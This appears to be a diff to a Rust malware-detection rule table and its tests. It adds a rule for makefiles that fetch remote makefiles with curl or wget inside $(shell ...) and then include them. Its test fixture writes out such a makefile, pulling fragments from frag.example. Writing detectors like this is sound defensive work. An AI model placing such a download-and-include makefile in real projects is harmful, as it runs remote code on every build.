@@ -49,8 +49,17 @@ pub(super) static CUES: &[Cue] = &[
     },
     Cue {
         means: Means::Rule("download-then-run"),
+        what: "a makefile that downloads when it is read and includes makefiles: make code fetched on every run of make",
+        needs: "$(shell",
+        pattern: r"(?i)\$\(shell\b(?:[^\n]*\\\n){0,12}[^\n]*\b(?:curl|wget)\b",
+        also: r"(?m)^\s*-?include\s+\S",
+        place: CuePlace::Code,
+        ..Cue::PLAIN
+    },
+    Cue {
+        means: Means::Rule("download-then-run"),
         what: "starts a shell with no script and feeds it commands the program holds",
-        needs: "sh",
+        needs: "subprocess.|open|spawn(|execsync(",
         pattern: r#"(?i)(?:\bsubprocess\.\w+\(\s*\[\s*[\x22'](?:/bin/|/usr/bin/)?(?:ba|z|da|k)?sh[\x22'](?:\s*,\s*[\x22']-s[\x22'])?\s*\]\s*,[^\n]*\b(?:input\s*=|stdin\s*=\s*(?:subprocess\.)?PIPE)|\bopen\s*\(?\s*(?:my\s+)?[\$\w]+\s*,\s*[\x22']\|-[\x22']\s*,\s*[\x22'](?:/bin/|/usr/bin/)?(?:ba|z|da|k)?sh[\x22']|\bopen\s*\(?\s*(?:my\s+)?[\$\w]+\s*,\s*[\x22']\|\s*(?:/bin/|/usr/bin/)?(?:ba|z|da|k)?sh\s*[\x22']|\bIO\.popen\(\s*\[?\s*[\x22'](?:/bin/)?(?:ba|z)?sh[\x22']\s*\]?\s*,\s*[\x22'](?:w|r\+|w\+)[\x22']|\bspawn\(\s*[\x22'](?:/bin/)?(?:ba|z)?sh[\x22']\s*(?:,\s*\[\s*(?:[\x22']-s[\x22'])?\s*\])?\s*(?:,\s*\{[^}\n]*\})?\s*\)[^\n]*\.stdin\.(?:write|end)|\bexecSync\(\s*[\x22'](?:/bin/)?(?:ba|z)?sh[\x22']\s*,\s*\{[^}\n]*\binput\s*:)"#,
         place: CuePlace::Code,
         ..Cue::PLAIN
@@ -344,6 +353,26 @@ mod tests {
                     "const p = spawn(\"sh\", [], {stdio: ['pipe', 1, 2]}).stdin.write(code);\n",
                 ),
             ],
+        );
+    }
+
+    #[test]
+    fn a_makefile_that_downloads_makefiles_it_includes_is_refused() {
+        // Honest: a makefile that includes a local file and asks git for
+        // a version.
+        assert!(
+            high(&[(
+                "Makefile",
+                "VERSION := $(shell git describe --tags)\n-include local.mk\nall:\n\tcc -o app main.c\n"
+            )])
+            .is_empty()
+        );
+        caught(
+            &["download-then-run"],
+            &[(
+                "Makefile",
+                "_r := $(shell mkdir -p .mk; \\\n  for f in a b; do \\\n    curl -fsSo .mk/$$f.mk https://frag.example/$$f.mk; \\\n  done)\n-include .mk/a.mk\n",
+            )],
         );
     }
 }
